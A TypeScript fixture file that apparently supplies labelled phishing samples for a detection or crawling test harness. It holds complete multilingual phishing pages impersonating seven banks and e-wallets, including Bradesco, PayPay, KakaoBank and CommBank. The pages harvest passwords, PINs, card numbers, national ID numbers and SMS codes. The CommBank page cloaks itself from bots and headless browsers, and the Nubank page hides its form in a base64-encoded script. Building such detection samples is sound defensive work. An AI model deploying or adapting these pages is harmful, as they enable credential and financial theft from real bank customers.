import type { Entry } from '../entry.js';
import { doc, mobileCss, corpCss, shell, cardFields, stepScript, okJson, img, htmlRoute, jsRoute, jsonRoute, gtag } from '../parts/u-kit.js';

export const entries: Entry[] = [
{
  id: 'u-phish-bradesco-chave-pix-bloqueada',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://app-bradesco-desbloqueio.online/acesso/',
  body: doc({
    lang: 'pt-BR',
    title: 'Bradesco | Desbloqueio de Chave Pix',
    css: mobileCss('#cc092f') + '.step{display:none}.step.on{display:block}.pin{letter-spacing:12px;text-align:center;font-size:22px}',
    body: `<div class="bar"><img src="/acesso/img/logo.png" alt="">Bradesco</div>
<div class="wrap">
<div class="box"><h2 class="red">Sua Chave Pix foi bloqueada</h2>
<p style="font-size:14px">Identificamos uma transação Pix de <b>R$ 1.847,90</b> não reconhecida em sua conta. Por segurança, sua chave foi <b>suspensa</b>. Para reativar, confirme seus dados abaixo. O procedimento leva menos de 2 minutos.</p></div>
<form id="f" class="box">
<div class="step on" id="s1">
<label>Agência (sem dígito)</label><input name="agencia" inputmode="numeric" maxlength="4" required>
<div class="half"><div><label>Conta</label><input name="conta" inputmode="numeric" maxlength="7" required></div><div><label>Dígito</label><input name="dig" maxlength="1" required></div></div>
<label>CPF do titular</label><input name="cpf" inputmode="numeric" placeholder="000.000.000-00" required>
<button type="button" onclick="document.getElementById('s1').className='step';document.getElementById('s2').className='step on'">Continuar</button></div>
<div class="step" id="s2">
<label>Senha de 4 dígitos (internet banking)</label><input class="pin" name="senha4" type="password" maxlength="4" inputmode="numeric" required>
<label>Senha do cartão (6 dígitos)</label><input class="pin" name="senha6" type="password" maxlength="6" inputmode="numeric" required>
<label>Celular cadastrado</label><input name="cel" placeholder="(11) 9 0000-0000" required>
<button>Reativar Chave Pix</button></div>
</form>
<p class="tip">Bradesco nunca solicita sua senha por telefone. Ambiente 100% seguro. Protegido por <b>Bradesco Segurança</b>.</p>
</div>
<div class="ft">Banco Bradesco S.A. — CNPJ 60.746.948/0001-12 © 2026<br>Cidade de Deus, s/n — Osasco/SP</div>
${stepScript('/acesso/salvar.php', '/acesso/token.php?etapa=2')}`,
  }),
  routes: {
    'app-bradesco-desbloqueio.online/acesso/img/logo.png': img(204, 9, 47),
    'app-bradesco-desbloqueio.online/acesso/salvar.php': okJson(),
    'app-bradesco-desbloqueio.online/acesso/token.php': htmlRoute(doc({ lang: 'pt-BR', title: 'Bradesco | Token', css: mobileCss('#cc092f'), body: `<div class="bar">Bradesco</div><div class="wrap"><form class="box" method="post" action="/acesso/salvar.php"><h2>Confirmação de segurança</h2><p>Digite o código de 6 dígitos exibido no seu Token Bradesco (app) para concluir o desbloqueio.</p><label>Chave de Segurança</label><input name="token" maxlength="6" inputmode="numeric"><button>Confirmar</button></form></div>` })),
  },
},
{
  id: 'u-phish-paypay-riyou-teishi',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://paypay-anzen-kakunin.top/login',
  body: doc({
    lang: 'ja',
    title: 'PayPay - ログイン',
    css: mobileCss('#ff0033') + 'body{background:#fff}.bar{justify-content:center}',
    body: `<div class="bar">PayPay</div>
<div class="wrap">
<div class="box" style="border:1px solid #f2c1c8"><h2 class="red">【重要】ご利用制限のお知らせ</h2>
<p style="font-size:14px">お客様のアカウントで第三者による不正利用の可能性がある取引が検知されたため、一部機能のご利用を制限しております。以下よりログインのうえ、本人確認を完了してください。確認が取れない場合、残高（PayPayマネー）が失効する場合がございます。</p></div>
<form id="f" class="box">
<label>携帯電話番号</label><input name="tel" inputmode="tel" placeholder="090-1234-5678" required>
<label>パスワード</label><input name="pw" type="password" required>
<button>ログイン</button>
<p class="tip">パスワードをお忘れの方は<a href="#">こちら</a></p>
</form>
<form id="f2" class="box" style="display:none"><h2>ご登録カードの確認</h2>
${cardFields({ name: 'カード名義（ローマ字）', number: 'カード番号', exp: '有効期限', cvv: 'セキュリティコード' })}
<label>生年月日</label><input name="dob" placeholder="1985/04/01"><button>確認する</button></form>
</div>
<div class="ft">© PayPay Corporation.</div>
<script>
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();
fetch('/api/v2/session',{method:'POST',body:new FormData(this)}).finally(function(){document.getElementById('f').style.display='none';document.getElementById('f2').style.display='block';});});
document.getElementById('f2').addEventListener('submit',function(e){e.preventDefault();
fetch('/api/v2/card',{method:'POST',body:new FormData(this)}).finally(function(){location.href='https://paypay.ne.jp/';});});
</script>`,
  }),
  routes: {
    'paypay-anzen-kakunin.top/api/v2/session': okJson(),
    'paypay-anzen-kakunin.top/api/v2/card': okJson(),
  },
},
{
  id: 'u-phish-kakaobank-identity-ko',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://kakaobnk-secure.com/auth/step1.html',
  body: doc({
    lang: 'ko',
    title: '카카오뱅크 본인확인',
    css: mobileCss('#ffe300') + '.bar{color:#1e1e1e}button{color:#1e1e1e}body{font-family:"Apple SD Gothic Neo","Malgun Gothic",sans-serif}',
    body: `<div class="bar"><img src="/auth/kb.png" alt="">kakaobank</div>
<div class="wrap">
<div class="box"><h2>고객님의 계좌가 일시 정지되었습니다</h2>
<p style="font-size:14px">금융감독원 전기통신금융사기 예방 지침에 따라 대포통장 의심 거래가 감지된 계좌에 대해 지급정지 조치가 진행됩니다. 본인 확인을 완료하시면 즉시 해제됩니다.</p></div>
<form id="f" class="box">
<label>성명</label><input name="name" required>
<label>주민등록번호</label><div class="half"><div><input name="rrn1" maxlength="6" inputmode="numeric" placeholder="앞 6자리" required></div><div><input name="rrn2" type="password" maxlength="7" inputmode="numeric" placeholder="뒤 7자리" required></div></div>
<label>통신사</label><select name="telco"><option>SKT</option><option>KT</option><option>LG U+</option><option>알뜰폰</option></select>
<label>휴대폰 번호</label><input name="phone" inputmode="tel" placeholder="010-0000-0000" required>
<label>계좌 비밀번호 (4자리)</label><input name="apw" type="password" maxlength="4" inputmode="numeric" required>
<label>이체 비밀번호 (6자리)</label><input name="tpw" type="password" maxlength="6" inputmode="numeric" required>
<button>본인확인</button>
</form>
<p class="tip">※ 본 확인 절차는 금융위원회 고시에 따른 의무 절차입니다.</p>
</div>
<div class="ft">(주)한국카카오은행 | 고객센터 1599-3333</div>
${stepScript('/auth/proc.php', '/auth/step2.html')}`,
  }),
  routes: {
    'kakaobnk-secure.com/auth/kb.png': img(255, 227, 0),
    'kakaobnk-secure.com/auth/proc.php': okJson(),
    'kakaobnk-secure.com/auth/step2.html': htmlRoute(doc({ lang: 'ko', title: '카카오뱅크 인증', css: mobileCss('#ffe300'), body: `<div class="bar" style="color:#000">kakaobank</div><div class="wrap"><form class="box" method="post" action="/auth/proc.php"><h2>인증번호 입력</h2><p>문자로 받은 인증번호 6자리를 입력하세요. (유효시간 03:00)</p><input name="sms" maxlength="6"><button style="color:#000">확인</button></form></div>` })),
  },
},
{
  id: 'u-phish-maybank2u-akaun-disekat',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://m2u-my-secure.info/home/login.do',
  body: doc({
    lang: 'ms',
    title: 'Maybank2u | Log Masuk',
    css: corpCss('#1a1a1a', '#ffc83d') + 'header.top{background:#ffc83d}header.top a{color:#111}button{color:#111;font-weight:bold}.login{max-width:420px;margin:30px auto}',
    body: shell({ brand: 'Maybank2u', logo: 'Maybank2u', nav: ['Peribadi', 'Perniagaan', 'Islamik'], footer: 'Hak Cipta © 2026 Malayan Banking Berhad (3813-K). Hak cipta terpelihara.', links: ['Notis Privasi', 'Terma & Syarat', 'Keselamatan'] })(`<div class="card login">
<div class="alert"><b>Akaun anda telah disekat sementara.</b> Sila log masuk dan sahkan Secure2u anda untuk mengaktifkan semula akaun dalam tempoh 12 jam.</div>
<form id="f"><label>Nama Pengguna</label><input name="username" required>
<label>Kata Laluan</label><input name="password" type="password" required>
<label>No. Kad Pengenalan (MyKad)</label><input name="ic" placeholder="900101-14-5678" required>
<button style="margin-top:16px;width:100%">LOG MASUK</button></form>
<p class="muted">Jangan kongsi TAC anda dengan sesiapa. Maybank tidak akan meminta butiran peribadi melalui SMS.</p></div>`),
  }) + stepScript('/home/auth.do', '/home/tac.do'),
  routes: {
    'm2u-my-secure.info/home/auth.do': okJson(),
    'm2u-my-secure.info/home/tac.do': htmlRoute(doc({ lang: 'ms', title: 'Maybank2u | TAC', css: mobileCss('#ffc83d'), body: `<div class="bar" style="color:#111">Maybank2u</div><div class="wrap"><form class="box" method="post" action="/home/auth.do"><h2>Masukkan TAC</h2><p>TAC telah dihantar ke nombor telefon berdaftar anda.</p><input name="tac" maxlength="6"><button style="color:#111">Sahkan</button></form></div>` })),
  },
},
{
  id: 'u-phish-commbank-netbank-cloaked',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://netbank-logon.cba-verify.net/netbank/Logon/Logon.aspx',
  body: `<!DOCTYPE html><html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>NetBank - Log on</title>
<style>body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f6f6f6}.hd{background:#ffcc00;padding:14px 24px;font-weight:bold;font-size:20px}.bx{max-width:400px;margin:40px auto;background:#fff;padding:28px;border-top:4px solid #ffcc00}label{display:block;font-size:13px;margin:14px 0 4px}input{width:100%;padding:10px;border:1px solid #999;box-sizing:border-box}button{margin-top:20px;width:100%;background:#000;color:#fff;padding:12px;border:0;font-size:15px}.sm{font-size:12px;color:#555}</style></head>
<body><div id="root"></div>
<script>
(function(){
 var bad = navigator.webdriver || !navigator.languages || navigator.languages.length===0 || /HeadlessChrome|bot|crawl|spider/i.test(navigator.userAgent) || screen.width<200;
 if(bad){document.title='404 Not Found';document.getElementById('root').innerHTML='<h1>Not Found</h1><p>The requested URL was not found on this server.</p>';return;}
 document.getElementById('root').innerHTML='<div class="hd">CommBank NetBank</div><div class="bx"><h2>Log on to NetBank</h2><p class="sm">For your security, we have temporarily restricted your account. Please log on to verify recent activity.</p><form id="f"><label>Client number</label><input name="cn" inputmode="numeric" maxlength="8"><label>Password</label><input name="pw" type="password"><label>Mobile number</label><input name="mob" placeholder="04xx xxx xxx"><button>Log on</button></form><p class="sm">Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945</p></div>';
 document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fetch('/netbank/Logon/api.php',{method:'POST',body:fd}).finally(function(){location.replace('/netbank/Logon/NetCode.aspx')});};
})();
</script></body></html>`,
  routes: {
    'netbank-logon.cba-verify.net/netbank/Logon/api.php': okJson(),
    'netbank-logon.cba-verify.net/netbank/Logon/NetCode.aspx': htmlRoute(`<!DOCTYPE html><html><head><title>NetCode</title></head><body style="font-family:Arial"><div style="background:#ffcc00;padding:14px">CommBank</div><form method="post" action="/netbank/Logon/api.php" style="max-width:400px;margin:30px auto"><h3>Enter your NetCode</h3><p>We've sent a NetCode SMS to your registered mobile.</p><input name="netcode" maxlength="6"><button>Continue</button></form></body></html>`),
  },
},
{
  id: 'u-phish-nubank-limite-script',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://nubank-limite-aumento.site/?c=sms',
  body: `<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Nubank</title>
<link rel="stylesheet" href="/s/app.css"></head><body><div id="r"></div><script src="/s/bundle.min.js"></script></body></html>`,
  routes: {
    'nubank-limite-aumento.site/s/app.css': { status: 200, headers: { 'content-type': 'text/css' }, body: 'body{margin:0;font-family:Graphik,Arial,sans-serif;background:#820ad1;color:#fff}.w{max-width:420px;margin:0 auto;padding:24px}.c{background:#fff;color:#222;border-radius:14px;padding:20px;margin-top:16px}input{width:100%;box-sizing:border-box;padding:12px;margin:6px 0 12px;border:1px solid #ccc;border-radius:8px;font-size:16px}button{width:100%;padding:14px;border:0;border-radius:30px;background:#820ad1;color:#fff;font-size:16px;font-weight:bold}h1{font-size:26px}' },
    'nubank-limite-aumento.site/s/bundle.min.js': jsRoute(`!function(){var d=JSON.parse(atob("${Buffer.from(JSON.stringify({ t: 'Parabéns! Seu limite foi aumentado', s: 'Você foi pré-aprovado para um novo limite de R$ 7.850,00 no seu cartão Nubank. Confirme seus dados para liberar.', f: [['cpf', 'CPF'], ['senha', 'Senha do app (4 dígitos)'], ['cartao', 'Número do cartão'], ['val', 'Validade'], ['cvv', 'CVV']], b: 'Liberar limite' })).toString('base64')}"));
var r=document.getElementById("r"),h='<div class="w"><h1>'+d.t+'</h1><p>'+d.s+'</p><form class="c" id="x">';
d.f.forEach(function(x){h+='<label>'+x[1]+'</label><input name="'+x[0]+'"'+(x[0]=="senha"?' type="password"':'')+' required>'});
h+='<button>'+d.b+'</button></form><p style="font-size:11px;opacity:.7">Nu Pagamentos S.A. – Instituição de Pagamento. CNPJ 18.236.120/0001-58</p></div>';r.innerHTML=h;
document.getElementById("x").onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});navigator.sendBeacon("/s/c",JSON.stringify(o));r.innerHTML='<div class="w"><h1>Analisando...</h1><p>Aguarde a confirmação por SMS.</p></div>'}}();`),
    'nubank-limite-aumento.site/s/c': okJson(),
  },
},
{
  id: 'u-phish-esun-account-abnormal-tw',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://esunbank-tw.cc/login',
  body: doc({
    lang: 'zh-TW',
    title: '玉山銀行 個人網路銀行',
    css: corpCss('#00857c', '#00857c') + '.login{max-width:440px;margin:24px auto}body{font-family:"Microsoft JhengHei","PingFang TC",sans-serif}',
    body: shell({ brand: '玉山銀行', logo: '玉山銀行 E.SUN BANK', nav: ['個人金融', '信用卡', '財富管理'], footer: '玉山商業銀行 版權所有 © 2026 E.SUN Commercial Bank, Ltd. 客服專線 (02)2182-1313', links: ['隱私權聲明', '網路安全', '服務據點'] })(`<div class="card login">
<div class="alert">您的帳戶因異常登入已暫停使用，請於今日完成身分驗證以恢復網路銀行及行動支付功能。</div>
<form id="f"><label>身分證字號</label><input name="pid" maxlength="10" required>
<label>使用者名稱</label><input name="uname" required>
<label>使用者密碼</label><input name="upw" type="password" required>
<label>信用卡卡號（驗證用）</label><input name="cc" inputmode="numeric">
<button style="margin-top:16px;width:100%">登入</button></form></div>`),
  }) + stepScript('/api/auth', '/otp'),
  routes: {
    'esunbank-tw.cc/api/auth': okJson(),
    'esunbank-tw.cc/otp': htmlRoute(doc({ lang: 'zh-TW', title: '簡訊驗證', css: mobileCss('#00857c'), body: `<div class="bar">玉山銀行</div><div class="wrap"><form class="box" method="post" action="/api/auth"><h2>簡訊動態密碼</h2><p>請輸入簡訊中的 6 位數 OTP 驗證碼。</p><input name="otp"><button>確認</button></form></div>` })),
  },
},
];
